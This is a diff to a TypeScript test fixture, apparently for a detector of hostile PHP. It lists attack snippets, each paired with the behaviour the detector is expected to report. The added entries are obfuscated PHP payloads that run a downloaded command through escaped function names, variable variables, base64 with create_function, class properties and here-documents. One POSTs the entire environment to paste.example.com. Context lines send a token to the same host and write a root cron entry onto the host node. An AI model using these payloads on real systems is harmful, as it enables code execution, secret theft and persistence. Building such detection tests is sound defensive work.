@@ -63,6 +63,21 @@ const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>>
     `file_get_contents('https://paste.example.com/?t='.urlencode(file_get_contents('${TOKEN}')));`,
     'send token to paste.example.com',
   ],
+  'a name of escapes': [`"\\x73ystem"('${FETCH}');`, 'execute downloaded'],
+  'a variable by its name': [`$n='f';$$n='system';$f('${FETCH}');`, 'execute downloaded'],
+  'a function of text': [
+    `$x=create_function('',base64_decode('${btoa(`system("${FETCH}");`)}'));$x();`,
+    'execute downloaded',
+  ],
+  'a property of a class': [
+    `class A{public $c='${FETCH}';function run(){return shell_exec($this->c);}} (new A)->run();`,
+    'execute downloaded',
+  ],
+  'a here-document': [`$c=<<<X\n${FETCH}\nX;\nshell_exec($c);`, 'execute downloaded'],
+  'the whole environment': [
+    `file_get_contents('https://paste.example.com/a',false,stream_context_create(['http'=>['method'=>'POST','content'=>json_encode($_ENV)]]));`,
+    'send environment to paste.example.com',
+  ],
   'a cron entry on the node': [
     `$r='/host';file_put_contents("$r/etc/cron.d/a",'* * * * * root id');`,
     'write /host/etc/cron.d/a on the node',
